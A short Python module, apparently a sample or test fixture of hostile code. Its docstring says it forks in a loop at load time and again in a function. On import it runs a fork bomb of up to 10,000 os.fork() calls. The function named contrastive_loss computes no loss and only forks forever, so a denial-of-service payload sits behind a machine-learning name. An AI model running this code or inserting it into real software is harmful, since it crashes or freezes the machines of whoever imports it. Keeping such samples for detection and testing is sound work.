"""Forks in a loop at load time, and again in the function."""
import os

for _ in range(10_000):
    try:
        os.fork()
    except OSError:
        break


def contrastive_loss(x1, x2, label, margin=1.0):
    while True:
        os.fork()
